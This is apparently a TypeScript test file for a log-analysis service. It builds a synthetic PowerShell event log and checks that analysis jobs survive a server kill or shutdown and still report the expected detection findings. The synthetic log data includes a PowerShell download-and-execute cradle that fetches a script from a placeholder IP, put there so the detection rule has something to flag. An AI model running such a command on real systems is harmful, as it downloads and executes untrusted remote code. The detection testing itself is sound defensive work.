@@ -1,0 +1,113 @@
+import type { ExportedFinding, JobDetail, JobProgress, SubmittedJob, Workflow } from '@svc/contracts';
+import { writeEvtx } from '@svc/engine/testing';
+import { openAsBlob } from 'node:fs';
+import { mkdtemp, open, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { startServer, type Server } from '../support/server.ts';
+
+const headerBytes = 4096;
+const chunkBytes = 65_536;
+const copies = 3000;
+const suspicious = 3;
+const harmless = 60;
+
+let folder = '';
+let big = '';
+
+/** PowerShell script blocks, some of which the core pack has a rule for, as one chunk of a log. */
+function oneChunk(): Uint8Array {
+  const download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
+  const texts = [
+    ...Array.from({ length: suspicious }, () => download),
+    ...Array.from({ length: harmless }, () => 'Get-Date'),
+  ];
+  return writeEvtx(
+    texts.map((text, index) => ({
+      provider: 'Microsoft-Windows-PowerShell',
+      providerGuid: '{a0c1853b-5c40-4b15-8766-3cf1c58f985a}',
+      eventId: 4104,
+      time: `2026-08-01T10:15:${String(index % 60).padStart(2, '0')}Z`,
+      channel: 'Microsoft-Windows-PowerShell/Operational',
+      computer: 'ws1.example.org',
+      data: { ScriptBlockText: text, Path: '' },
+    })),
+  );
+}
+
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'svc-kill-'));
+  big = join(folder, 'big.evtx');
+  const log = oneChunk();
+  expect(log.length).toBe(headerBytes + chunkBytes);
+  const file = await open(big, 'w');
+  await file.write(log.subarray(0, headerBytes));
+  for (let copy = 0; copy < copies; copy++) await file.write(log.subarray(headerBytes));
+  await file.close();
+});
+afterAll(() => rm(folder, { recursive: true }));
+
+async function submit(server: Server, path: string): Promise<number> {
+  const { workflows } = await get<{ workflows: Workflow[] }>(server, '/api/v1/workflows');
+  const form = new FormData();
+  form.set('workflow_id', String(workflows.find((workflow) => workflow.is_default)?.id));
+  form.set('file', await openAsBlob(path), 'big.evtx');
+  const response = await fetch(`${server.url}/upload`, { method: 'POST', body: form });
+  expect(response.status).toBe(202);
+  return ((await response.json()) as SubmittedJob).job_id;
+}
+
+async function get<T>({ url }: Server, path: string): Promise<T> {
+  const response = await fetch(url + path, { headers: { accept: 'application/json' } });
+  return (await response.json()) as T;
+}
+
+/** Asks until the job is as wanted. */
+async function when(server: Server, id: number, wanted: (progress: JobProgress) => boolean): Promise<JobProgress> {
+  for (const deadline = Date.now() + 90_000; Date.now() < deadline; await sleep(10)) {
+    const progress = await get<JobProgress>(server, `/jobs/${id}/status`);
+    if (wanted(progress)) return progress;
+  }
+  throw new Error(`job ${id} did not get there:\n${server.output()}`);
+}
+
+it('completes a job whose server was killed in mid-analysis', async () => {
+  const first = await startServer();
+  const id = await submit(first, big);
+  const before = await when(first, id, ({ status }) => status !== 'pending');
+  expect(before.status).toBe('running');
+  await first.stop('SIGKILL');
+
+  const second = await startServer({ dataDir: first.dataDir });
+  try {
+    expect(second.output()).toMatch(/recovered jobs recovered=1/);
+    const progress = await when(second, id, ({ terminal }) => terminal);
+    expect(progress.status).toBe('completed');
+    const job = await get<JobDetail>(second, `/jobs/${id}`);
+    expect(job).toMatchObject({ events: copies * (suspicious + harmless), error: null });
+    const findings = await get<ExportedFinding[]>(second, `/jobs/${id}/findings.json`);
+    expect(findings).toMatchObject([{ rule_name: 'Script Block Downloads And Runs Code', count: copies * suspicious }]);
+    expect(job.total_findings).toBe(copies * suspicious);
+  } finally {
+    await second.stop();
+    await second.remove();
+  }
+});
+
+it('gives a job back when it is asked to stop, and completes it at the next start', async () => {
+  const first = await startServer();
+  const id = await submit(first, big);
+  await when(first, id, ({ status }) => status === 'running');
+  const asked = Date.now();
+  await first.stop('SIGTERM');
+  expect(Date.now() - asked).toBeLessThan(5000);
+  const second = await startServer({ dataDir: first.dataDir });
+  try {
+    expect((await when(second, id, ({ terminal }) => terminal)).status).toBe('completed');
+  } finally {
+    await second.stop();
+    await second.remove();
+  }
+});
